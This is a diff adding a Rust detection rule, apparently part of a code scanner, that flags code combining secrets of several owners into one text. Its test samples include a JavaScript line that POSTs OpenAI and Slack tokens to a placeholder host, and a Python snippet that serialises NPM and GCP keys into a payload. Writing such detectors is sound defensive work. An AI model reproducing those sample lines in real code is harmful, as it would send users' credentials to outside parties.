@@ -1,0 +1,68 @@
+//! Secrets of several owners are put into one text.
+
+use std::collections::BTreeMap;
+
+use crate::fact::{HostKind, Part, What};
+use crate::flow::owner_word;
+use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::secret::{Secret, owner_hosts, stays_at_home};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "EXFIL_SECRETS_TOGETHER",
+    category: Category::Exfiltration,
+    severity: Severity::Critical,
+    title: "secrets of several owners are put into one text",
+    why: "Each key goes to its own service. Whoever writes several of them into one text wants to take them along.",
+    fix: "read each key where it is used, and nowhere else",
+    places: ANYWHERE,
+    anchors: &["environ", "process.env", "getenv", "$env:"],
+    check: Check::Unit(check),
+    hits: &[
+        text(
+            "```python\nfound = {\n  'a': os.environ['NPM_TOKEN'],\n  'b': os.environ['GCP_SERVICE_ACCOUNT_KEY'],\n}\npayload = json.dumps(found)\n```",
+        ),
+        text(
+            "```js\nconst all = { a: process.env.OPENAI_API_KEY, b: process.env.SLACK_BOT_TOKEN };\nfetch('https://a.host.test', { method: 'POST', body: JSON.stringify(all) });\n```",
+        ),
+    ],
+    misses: &[
+        text(
+            "```python\nconfig = {'a': os.environ['OPENAI_API_KEY'], 'b': os.environ['ANTHROPIC_API_KEY']}\nclient = OpenAI(api_key=config['a'])\n```",
+        ),
+        text(
+            "```python\nbody = json.dumps({'id': os.environ['TWITTER_API_KEY'], 's': os.environ['TWITTER_API_SECRET']})\n```",
+        ),
+    ],
+};
+
+fn check(unit: &Unit<'_>) -> Vec<Hit> {
+    let reading = unit.reading();
+    let mut owners: BTreeMap<usize, Vec<&str>> = BTreeMap::new();
+    for flow in &reading.flows {
+        let (Some(source), Some(sink)) = (reading.facts.get(flow.source), reading.facts.get(flow.sink))
+        else {
+            continue;
+        };
+        let What::ReadsSecret(Secret::Variable(name)) = &source.what else { continue };
+        let takes = match &sink.what {
+            What::Serialises => !owner_hosts(name).is_empty() || stays_at_home(name),
+            What::Sends { to, .. } => flow.part != Part::Header && to.kind() != HostKind::Local,
+            _ => false,
+        };
+        let word = owner_word(name);
+        let word = if word.is_empty() && stays_at_home(name) { name } else { word };
+        if takes && !word.is_empty() {
+            owners.entry(flow.sink).or_default().push(word);
+        }
+    }
+    let mut hits = Vec::new();
+    for (sink, mut words) in owners {
+        words.sort_unstable();
+        words.dedup();
+        if words.len() > 1 {
+            hits.push(Hit::at(reading.facts[sink].range.clone()));
+        }
+    }
+    hits
+}
